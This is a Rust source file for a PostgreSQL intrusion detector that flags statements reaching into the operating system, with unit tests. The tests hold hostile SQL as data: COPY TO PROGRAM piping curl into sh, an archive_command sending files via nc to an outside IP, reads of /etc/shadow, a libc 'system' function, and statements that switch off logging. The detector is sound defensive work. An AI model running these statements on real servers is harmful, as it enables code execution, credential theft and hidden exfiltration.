//! `PostgreSQL_UnsafeAction`: statements that reach out of the database into the server's
//! operating system or configuration — `COPY … TO/FROM PROGRAM` (a shell), COPY to or from
//! a server file, `pg_read_file` and its kin, `lo_import`/`lo_export` of server files, functions
//! in C or an untrusted language, `ALTER SYSTEM` (worse when it turns logging off or loads
//! libraries), and `dblink`/`postgres_fdw` connections to hosts that are not expected.
//! These are what an attacker does with a superuser session; an administrator does them
//! rarely and knowingly, so each is worth a look. One alert per principal and source.

use super::statement::{self as st, Explained, Incidents, StatementEvidence};
use super::Detector;
use model::alert::{AlertType, Finding, Severity};
use model::event::{Event, EventKind, EventTime};
use model::sql::Token;
use serde::{Deserialize, Serialize};

/// `[detect.unsafe_action]`
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct UnsafeActionConfig {
    pub enabled: bool,
    /// Hosts `dblink`/`postgres_fdw` may connect to (besides this server itself).
    pub dblink_hosts: Vec<String>,
}

impl Default for UnsafeActionConfig {
    fn default() -> Self {
        UnsafeActionConfig {
            enabled: true,
            dblink_hosts: Vec::new(),
        }
    }
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct State {
    incidents: Incidents,
}

pub struct UnsafeAction {
    cfg: UnsafeActionConfig,
    shown: StatementEvidence,
    batch: bool,
    st: State,
}

impl UnsafeAction {
    pub fn new(cfg: UnsafeActionConfig, shown: StatementEvidence) -> Self {
        UnsafeAction {
            cfg,
            shown,
            batch: false,
            st: State::default(),
        }
    }
}

/// A rule that matched: its name, severity and, for dblink, the host.
#[derive(Debug, PartialEq)]
pub struct Hit {
    pub rule: &'static str,
    pub severity: Severity,
    pub host: Option<String>,
}

fn hit(rule: &'static str, severity: Severity) -> Hit {
    Hit {
        rule,
        severity,
        host: None,
    }
}

const FILE_FUNCTIONS: [&str; 6] = [
    "PG_READ_FILE",
    "PG_READ_BINARY_FILE",
    "PG_LS_DIR",
    "PG_FILE_WRITE",
    "LO_IMPORT",
    "LO_EXPORT",
];

const UNTRUSTED_LANGUAGES: [&str; 8] = [
    "C",
    "PLPYTHONU",
    "PLPYTHON3U",
    "PLPYTHON2U",
    "PLPERLU",
    "PLTCLU",
    "PLSH",
    "PLRUBYU",
];

const RISKY_EXTENSIONS: [&str; 9] = [
    "ADMINPACK",
    "FILE_FDW",
    "DBLINK",
    "PLPYTHON3U",
    "PLPYTHONU",
    "PLPERLU",
    "PLTCLU",
    "PLSH",
    "LO",
];

/// Settings an attacker changes to run code or to go unseen.
const DANGEROUS_SETTINGS: [&str; 12] = [
    "ARCHIVE_COMMAND",
    "RESTORE_COMMAND",
    "SHARED_PRELOAD_LIBRARIES",
    "SESSION_PRELOAD_LIBRARIES",
    "LOCAL_PRELOAD_LIBRARIES",
    "DYNAMIC_LIBRARY_PATH",
    "LOG_STATEMENT",
    "LOG_CONNECTIONS",
    "LOGGING_COLLECTOR",
    "LOG_MIN_MESSAGES",
    "SSL",
    "PASSWORD_ENCRYPTION",
];

/// The hosts a libpq connection string names (`host=a,b`, `hostaddr=…`, `postgresql://a:5/…`).
fn conninfo_hosts(s: &str) -> Vec<String> {
    let s = s.trim();
    if let Some(rest) = s
        .strip_prefix("postgresql://")
        .or_else(|| s.strip_prefix("postgres://"))
    {
        let authority = rest.split(['/', '?']).next().unwrap_or("");
        let hosts = authority.rsplit('@').next().unwrap_or("");
        return hosts
            .split(',')
            .map(|h| {
                if let Some(v6) = h.strip_prefix('[') {
                    v6.split(']').next().unwrap_or("").to_string()
                } else {
                    h.split(':').next().unwrap_or("").to_string()
                }
            })
            .filter(|h| !h.is_empty())
            .collect();
    }
    s.split_whitespace()
        .filter_map(|kv| kv.split_once('='))
        .filter(|(k, _)| *k == "host" || *k == "hostaddr")
        .flat_map(|(_, v)| v.trim_matches('\'').split(',').map(str::to_string))
        .filter(|h| !h.is_empty())
        .collect()
}

fn is_local(h: &str) -> bool {
    h == "localhost"
        || h.starts_with('/')
        || h.parse::<std::net::IpAddr>()
            .is_ok_and(|ip| ip.is_loopback())
}

/// `SET [SESSION|LOCAL] log_statement = 'none'` and its kin, or `set_config('pgaudit.log',
/// 'none', …)`: statement or audit logging off (for a session, the statements after it are
/// not logged: the way to act unseen).
fn logging_off(s: &[Token]) -> bool {
    let quiet = |setting: &str, value: &str| -> bool {
        let value = value.trim().to_lowercase();
        match setting {
            "log_statement" | "pgaudit.log" => value == "none" || value.is_empty(),
            "log_min_error_statement" => value == "panic",
            "log_min_duration_statement" => value == "-1",
            _ => false,
        }
    };
    // SET [SESSION | LOCAL] name [TO | =] value
    if st::starts_with(s, &["SET"]) {
        let mut i = 1;
        if st::is_word(s.get(i), "SESSION") || st::is_word(s.get(i), "LOCAL") {
            i += 1;
        }
        let mut name = match st::name_of(s.get(i)) {
            Some(n) => n,
            None => return false,
        };
        i += 1;
        if st::is_op(s.get(i), ".") {
            if let Some(rest) = st::name_of(s.get(i + 1)) {
                name = format!("{name}.{rest}");
                i += 2;
            }
        }
        if st::is_word(s.get(i), "TO") || st::is_op(s.get(i), "=") {
            i += 1;
        }
        let value = match s.get(i) {
            Some(Token::Str(v)) => v.to_string(),
            Some(Token::Word(w)) => w.to_lowercase().into(),
            Some(Token::Num(n)) => n.to_string(),
            Some(Token::Op(o)) if o == "-" => match s.get(i + 1) {
                Some(Token::Num(n)) => format!("-{n}"),
                _ => return false,
            },
            _ => return false,
        };
        return quiet(&name, &value);
    }
    // SELECT set_config('log_statement', 'none', false)
    (0..s.len()).any(|i| {
        st::is_call(s, i, &["SET_CONFIG"])
            && match st::call_args(s, i) {
                [Token::Str(n), Token::Op(c), Token::Str(v), ..] if c == "," => {
                    quiet(&n.to_lowercase(), v)
                }
                _ => false,
            }
    })
}

/// The rules a text matches.
pub fn rules(toks: &[Token], dblink_hosts: &[String]) -> Vec<Hit> {
    let mut hits = Vec::new();
    let allowed = |h: &str| is_local(h) || dblink_hosts.iter().any(|a| a.eq_ignore_ascii_case(h));
    for s in st::statements(toks) {
        if st::starts_with(s, &["COPY"]) {
            if st::find_words(s, &["PROGRAM"]).is_some() {
                hits.push(hit("COPY … PROGRAM runs a shell command", Severity::High));
            } else if let Some(i) = s
                .iter()
                .position(|t| st::is_word(Some(t), "TO") || st::is_word(Some(t), "FROM"))
            {
                if matches!(s.get(i + 1), Some(Token::Str(_))) {
                    hits.push(hit("COPY to or from a server file", Severity::High));
                }
            }
        }
        if st::starts_with(s, &["ALTER", "SYSTEM"]) {
            let setting = s.get(3).and_then(|t| st::name_of(Some(t)));
            let dangerous = setting
                .as_deref()
                .is_some_and(|n| DANGEROUS_SETTINGS.contains(&n.to_uppercase().as_str()));
            hits.push(if dangerous {
                hit(
                    "ALTER SYSTEM of a setting that runs code or hides activity",
                    Severity::High,
                )
            } else {
                hit("ALTER SYSTEM", Severity::Medium)
            });
        }
        let creates_routine = st::starts_with(s, &["CREATE"])
            && (st::find_words(s, &["FUNCTION"]).is_some()
                || st::find_words(s, &["PROCEDURE"]).is_some());
        if creates_routine {
            if let Some(i) = s.iter().position(|t| st::is_word(Some(t), "LANGUAGE")) {
                let lang = match s.get(i + 1) {
                    Some(Token::Word(w)) => Some(w.clone()),
                    Some(Token::Ident(w) | Token::Str(w)) => Some(w.to_uppercase()),
                    _ => None,
                };
                if lang.is_some_and(|l| UNTRUSTED_LANGUAGES.contains(&l.as_str())) {
                    hits.push(hit(
                        "function in C or an untrusted language",
                        Severity::High,
                    ));
                }
            }
        }
        // CREATE [OR REPLACE] [TRUSTED] [PROCEDURAL] LANGUAGE plpython3u: the language itself.
        if st::starts_with(s, &["CREATE"]) && !creates_routine {
            if let Some(i) = st::find_words(s, &["LANGUAGE"]) {
                let lang = st::name_of(s.get(i + 1)).map(|l| l.to_uppercase());
                if lang.is_some_and(|l| UNTRUSTED_LANGUAGES.contains(&l.as_str())) {
                    hits.push(hit("untrusted language created", Severity::High));
                }
            }
        }
        // LOAD '/tmp/x.so': a shared library from a path runs its code in the server. A
        // library by its name (LOAD 'auto_explain') is an administrator's everyday tool.
        if st::starts_with(s, &["LOAD"]) {
            if let Some(Token::Str(lib)) = s.get(1) {
                if lib.contains('/') {
                    hits.push(hit("LOAD of a shared library from a path", Severity::High));
                }
            }
        }
        // file_fdw: a foreign table over a program's output or a server file.
        if st::starts_with(s, &["CREATE", "FOREIGN", "TABLE"]) {
            for j in 0..s.len() {
                match (st::name_of(s.get(j)).as_deref(), s.get(j + 1)) {
                    (Some("program"), Some(Token::Str(_))) => hits.push(hit(
                        "foreign table over a program's output (file_fdw program)",
                        Severity::High,
                    )),
                    (Some("filename"), Some(Token::Str(_))) => hits.push(hit(
                        "foreign table over a server file (file_fdw filename)",
                        Severity::High,
                    )),
                    _ => {}
                }
            }
        }
        // The session stops logging what it does next.
        if logging_off(s) {
            hits.push(hit(
                "statement or audit logging turned off for the session",
                Severity::High,
            ));
        }
        if st::starts_with(s, &["CREATE", "EXTENSION"]) {
            let mut i = 2;
            if st::starts_with(&s[2..], &["IF", "NOT", "EXISTS"]) {
                i = 5;
            }
            let ext = st::name_of(s.get(i)).map(|n| n.to_uppercase());
            if ext.is_some_and(|e| RISKY_EXTENSIONS.contains(&e.as_str())) {
                hits.push(hit(
                    "extension that reaches files, code or other servers",
                    Severity::Medium,
                ));
            }
        }
        if st::starts_with(s, &["CREATE", "SERVER"]) {
            if let Some(i) = st::find_words(s, &["OPTIONS"]) {
                let mut j = i;
                while j + 1 < s.len() {
                    if matches!(st::name_of(s.get(j)).as_deref(), Some("host" | "hostaddr")) {
                        if let Some(Token::Str(h)) = s.get(j + 1) {
                            if !allowed(h) {
                                hits.push(Hit {
                                    rule: "foreign server on an unexpected host",
                                    severity: Severity::Medium,
                                    host: Some(h.to_string()),
                                });
                            }
                        }
                    }
                    j += 1;
                }
            }
        }
        for i in 0..s.len() {
            if st::is_call(s, i, &FILE_FUNCTIONS) {
                // lo_import/lo_export with a path are server-side (psql's \lo_ commands are not SQL).
                hits.push(hit("server file access by function", Severity::High));
            }
            if st::is_call(
                s,
                i,
                &[
                    "DBLINK",
                    "DBLINK_CONNECT",
                    "DBLINK_CONNECT_U",
                    "DBLINK_EXEC",
                    "DBLINK_SEND_QUERY",
                ],
            ) {
                for t in st::call_args(s, i) {
                    if let Token::Str(c) = t {
                        for h in conninfo_hosts(c) {
                            if !allowed(&h) {
                                hits.push(Hit {
                                    rule: "dblink to an unexpected host",
                                    severity: Severity::Medium,
                                    host: Some(h),
                                });
                            }
                        }
                    }
                }
            }
        }
    }
    hits
}

impl Detector for UnsafeAction {
    fn id(&self) -> &'static str {
        "unsafe_action"
    }

    fn observe(&mut self, ev: &Event, _cx: &super::Context<'_>, out: &mut Vec<Finding>) {
        if !self.cfg.enabled || ev.kind != EventKind::Statement {
            return;
        }
        let Some(sql) = &ev.sql else { return };
        let hits = rules(sql.executed_tokens(), &self.cfg.dblink_hosts);
        if hits.is_empty() {
            return;
        }
        let principal = ev.principal.as_deref().unwrap_or("");
        // The program is part of who acted: a web application's session that runs a shell
        // command through an injection is another story than the DBA's psql from the same
        // host, and the alert must name the one that did it.
        let app = ev.application.as_deref().unwrap_or("");
        let entity = format!("{principal}|{}|{app}", ev.source_key());
        let names: Vec<&str> = hits.iter().map(|h| h.rule).collect();
        let severity = hits
            .iter()
            .map(|h| h.severity)
            .max()
            .unwrap_or(Severity::Medium);
        let hosts: Vec<String> = hits.iter().filter_map(|h| h.host.clone()).collect();
        let shown = self.shown.show(ev);
        let inc = self.st.incidents.hit(&entity, ev, &names, severity, shown);
        let mut extra = vec![];
        if !hosts.is_empty() {
            extra.push(("remoteHosts", serde_json::json!(hosts)));
        }
        let x = Explained {
            alert_type: AlertType::UnsafeAction,
            entity: entity.clone(),
            description: format!(
                "{principal:?} from {} ({}) ran statements that reach beyond the database: {}.",
                ev.source_key(),
                if app.is_empty() { "no application name".to_string() } else { format!("application {app:?}") },
                inc.rules.join(", ")
            ),
            why: "These statements run commands, read or write the server's files, load code or change the server's configuration: steps of an attack that has a privileged session, rarely of an application.".into(),
            remediation: vec![
                format!("Confirm with the owner of {principal:?} that these statements were intended; if not, end its sessions and change its password."),
                "Check the server for what the statements did: files written, programs run, settings changed (SELECT * FROM pg_file_settings WHERE sourcefile LIKE '%postgresql.auto.conf').".into(),
                "Take superuser and pg_execute_server_program / pg_read_server_files / pg_write_server_files from roles that do not need them.".into(),
            ],
            extra,
        };
        out.push(st::finding(ev, inc, x));
    }

    fn advance(&mut self, now: EventTime, _out: &mut Vec<Finding>) {
        self.st.incidents.expire(now, st::QUIET_MS);
    }

    detector_state!();
}

#[cfg(test)]
mod evasion_tests {
    use super::*;
    use model::sql::tokens;

    fn names(sql: &str) -> Vec<&'static str> {
        rules(&tokens(sql), &[])
            .into_iter()
            .map(|h| h.rule)
            .collect()
    }

    #[test]
    fn quoted_and_qualified_names_are_the_same_function() {
        for sql in [
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        ] {
            assert_eq!(names(sql), ["server file access by function"], "{sql}");
        }
        // A different function: PostgreSQL does not fold quoted names.
        assert!(names("SELECT \"PG_READ_FILE\"('/etc/passwd')").is_empty());
    }

    #[test]
    fn languages_libraries_foreign_tables_and_quiet_sessions() {
        assert_eq!(
            names("CREATE LANGUAGE plpython3u"),
            ["untrusted language created"]
        );
        assert_eq!(
            names("CREATE OR REPLACE TRUSTED PROCEDURAL LANGUAGE \"plperlu\""),
            ["untrusted language created"]
        );
        assert!(names("CREATE LANGUAGE plpgsql").is_empty());
        assert_eq!(
            names("LOAD '/tmp/x.so'"),
            ["LOAD of a shared library from a path"]
        );
        assert!(names("LOAD 'auto_explain'").is_empty());
        assert_eq!(
            names("CREATE FOREIGN TABLE t (l text) SERVER f OPTIONS (program 'id')"),
            ["foreign table over a program's output (file_fdw program)"]
        );
        assert_eq!(
            names("CREATE FOREIGN TABLE t (l text) SERVER f OPTIONS (filename '/etc/passwd')"),
            ["foreign table over a server file (file_fdw filename)"]
        );
        for sql in [
            "SET log_statement = 'none'",
            "SET SESSION log_statement TO none",
            "SET pgaudit.log = 'none'",
            "SET LOCAL log_min_duration_statement = -1",
            "SELECT set_config('log_statement', 'none', false)",
        ] {
            assert_eq!(
                names(sql),
                ["statement or audit logging turned off for the session"],
                "{sql}"
            );
        }
        for sql in [
            "SET log_statement = 'all'",
            "SET pgaudit.log = 'write, ddl'",
            "SET statement_timeout = 0",
            "SELECT set_config('search_path', 'app', false)",
        ] {
            assert!(names(sql).is_empty(), "{sql}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::statement::testing::stmt;
    use crate::testing::run;
    use model::sql::tokens;

    fn names(sql: &str) -> Vec<&'static str> {
        rules(&tokens(sql), &["replica.example".into()])
            .into_iter()
            .map(|h| h.rule)
            .collect()
    }

    #[test]
    fn each_unsafe_statement_matches_its_rule() {
        assert_eq!(
            names("copy (select 1) to program 'curl x | sh'"),
            ["COPY … PROGRAM runs a shell command"]
        );
        assert_eq!(
            names("COP/**/Y t FROM PROGRAM 'id'"),
            Vec::<&str>::new(),
            "COP Y is not COPY"
        );
        assert_eq!(
            names("COPY t FROM '/etc/passwd'"),
            ["COPY to or from a server file"]
        );
        assert_eq!(
            names("select pg_read_file('/etc/hostname')"),
            ["server file access by function"]
        );
        assert_eq!(
            names("SELECT lo_import('/etc/shadow')"),
            ["server file access by function"]
        );
        assert_eq!(
            names("CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE 'c' STRICT"),
            ["function in C or an untrusted language"]
        );
        assert_eq!(
            names("create function f() returns text as $$ import os $$ language plpython3u"),
            ["function in C or an untrusted language"]
        );
        assert_eq!(
            names("ALTER SYSTEM SET work_mem = '64MB'"),
            ["ALTER SYSTEM"]
        );
        assert_eq!(
            names("alter system set archive_command = 'nc 203.0.113.9 4444 < %p'"),
            ["ALTER SYSTEM of a setting that runs code or hides activity"]
        );
        assert_eq!(
            names("CREATE EXTENSION IF NOT EXISTS adminpack"),
            ["extension that reaches files, code or other servers"]
        );
        let h = rules(
            &tokens(
                "SELECT * FROM dblink('host=203.0.113.9 dbname=x user=y', 'select 1') AS t(a int)",
            ),
            &[],
        );
        assert_eq!(h[0].host.as_deref(), Some("203.0.113.9"));
        assert!(
            names("SELECT dblink_connect('c', 'postgresql://u@replica.example:5432/db')")
                .is_empty()
        );
        assert!(names("SELECT dblink_connect('c', 'host=localhost dbname=x')").is_empty());
        assert_eq!(
            names("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')"),
            ["foreign server on an unexpected host"]
        );
    }

    #[test]
    fn ordinary_statements_match_nothing() {
        for s in [
            "COPY t TO STDOUT",
            "COPY t (a, b) FROM STDIN WITH (FORMAT csv)",
            "SELECT 'copy t to program' AS text",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
            "create function g() returns void language plpgsql as $$ begin perform pg_read_file('x'); end $$",
            "SELECT * FROM read_file_log",
            "CREATE EXTENSION pgcrypto",
        ] {
            assert!(names(s).is_empty(), "{s}: {:?}", names(s));
        }
    }

    #[test]
    fn one_alert_per_principal_and_source_at_the_highest_severity() {
        let f = run(
            &mut UnsafeAction::new(UnsafeActionConfig::default(), StatementEvidence::Redacted),
            [
                stmt(1000, "postgres", "ALTER SYSTEM SET work_mem = '1GB'"),
                stmt(2000, "postgres", "COPY (SELECT 1) TO PROGRAM 'id > /tmp/x'"),
                stmt(3000, "postgres", "SELECT 1"),
            ],
        );
        assert_eq!(f.len(), 2);
        assert_eq!(f[0].severity, Severity::Medium);
        assert_eq!(f[1].severity, Severity::High);
        assert_eq!(f[0].entity, f[1].entity);
        let ev = f[1].evidence.value();
        assert_eq!(ev["sampleStatements"][1], "COPY (SELECT ?) TO PROGRAM ?");
        assert_eq!(ev["rules"].as_array().unwrap().len(), 2);
    }
}
